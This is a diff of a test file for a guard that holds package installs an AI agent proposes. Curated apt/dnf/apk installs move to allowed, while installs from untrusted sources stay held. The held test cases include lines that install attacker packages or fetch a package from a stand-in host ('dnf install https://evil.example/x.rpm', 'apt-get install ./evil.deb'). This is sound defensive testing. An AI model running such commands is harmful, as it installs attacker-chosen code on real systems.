@@ -1,7 +1,9 @@
-"""Installs of software by name (red team s7, classes C19 and C24): the agent picks the code
-that runs (maintainer scripts as root, setup.py, npm lifecycle scripts) and apt resolves
-conflicts by removing packages, so ``pkg.install`` holds them; the project's own declared
-dependencies (``npm ci``, ``pip install -r requirements.txt``) stay ordinary."""
+"""Installs of software by name from registries anyone may publish to (red team s7, class
+C19): the agent picks code whose author nobody chose (setup.py, npm lifecycle scripts), so
+``pkg.install`` holds them. The distribution's curated repositories (apt, dnf, apk, zypper)
+stay ordinary, as the issue promises (C24, apt removing conflicting packages, is a
+documented residual risk); so do the project's own declared dependencies (``npm ci``,
+``pip install -r requirements.txt``)."""
 
 from __future__ import annotations
 
@@ -17,18 +19,13 @@ from .expect import table_tests
 
 HELD = [
     # the red team's lines
-    "apt-get install -y exim4", "apt-get install -y mariadb-server",
-    "apt-get install -y sysvinit-core", "pip install attacker-pkg",
+    "pip install attacker-pkg",
     "python3 -m pip install attacker-pkg", "pip install --user attacker-pkg",
     "npm install -g attacker-pkg",
-    # system package managers, every verb that installs or upgrades
-    "sudo apt-get install -y jq", "sudo apt install -y htop", "apt-get -y install nginx",
-    "apt-get install --reinstall openssh-server", "apt-get upgrade -y", "apt full-upgrade",
-    "apt-get dist-upgrade", "sudo dnf install -y git", "yum install httpd", "yum update",
-    "yum -y update openssl", "dnf upgrade", "apk add curl", "apk upgrade",
-    "brew install jq", "brew upgrade", "brew tap evil/tap", "snap install foo",
-    "snap refresh", "zypper in vim", "pacman -S nmap", "pacman -Syu",
-    "apt-get install -y nginx=1.24.0-1", "DEBIAN_FRONTEND=noninteractive apt-get install -y x",
+    # sources anyone may publish to, or that are no configured repository
+    "brew tap evil/tap", "snap install foo", "snap refresh", "pacman -S nmap", "pacman -Syu",
+    "apt-get install ./evil.deb", "dnf install https://evil.example/x.rpm",
+    "apt-get install -y --allow-unauthenticated x",
     # language registries: publisher code
     "pip3 install requests", "pip install 'requests>=2.31'", "pip install -U requests",
     "pip install --upgrade pip attacker-pkg", "python3 -m pip install -q attacker",
@@ -42,6 +39,11 @@ HELD = [
 ]
 
 ALLOWED = [
+    # the distribution's curated, signed repositories
+    "sudo apt-get install -y jq", "sudo apt install -y htop", "apt-get -y install nginx",
+    "apt-get install --reinstall openssh-server", "apt-get upgrade -y",
+    "sudo dnf install -y git", "yum install httpd", "yum update", "dnf upgrade",
+    "apk add curl", "apk upgrade", "brew install jq", "apt-get install -y nginx=1.24.0-1",
     "pip install -r requirements.txt", "python3 -m pip install -r requirements.txt",
     "python3 -m pip install --upgrade pip", "pip install -U pip setuptools wheel",
     "pip install -e .", "npm ci", "npm install", "npm ci && npm run build",
@@ -55,7 +57,7 @@ test_held, test_allowed = table_tests(HELD, ALLOWED)
 
 
 def test_rule_names_the_class() -> None:
-    for line in ("apt-get install -y exim4", "pip install attacker-pkg", "npm install -g x"):
+    for line in ("brew tap evil/tap", "pip install attacker-pkg", "npm install -g x"):
         assert "pkg.install" in {f.rule for f in classify(line).findings}, line
 
 
@@ -64,8 +66,7 @@ def test_rule_names_the_class() -> None:
 RULE_ONLY = [
     "npm install express", "npm i -D typescript@5", "npm install @types/node", "yarn add lodash",
     "pip install requests", "pip install 'requests>=2,<3'", "pip install --upgrade --user black",
-    "pip install --no-cache-dir requests==2.31.0", "apt-get install -y nginx",
-    "sudo apt-get install -y --no-install-recommends jq", "dnf install -y git",
+    "pip install --no-cache-dir requests==2.31.0",
 ]
 
 
@@ -76,7 +77,7 @@ def test_install_is_known_safe_but_held_by_the_rule(line: str) -> None:
     assert known_safe(parse(line).commands[-1]).entry is not None
 
 
-@pytest.mark.parametrize("line", ["pip install attacker-pkg", "apt-get install -y exim4"])
+@pytest.mark.parametrize("line", ["pip install attacker-pkg", "npm install -g x"])
 def test_a_site_may_allow_installs(line: str) -> None:
     policy = Policy(rules=(RuleOverride("pkg.install", Action.ALLOW),))
     assert decide(policy, classify_for(policy, line)).action is Action.ALLOW
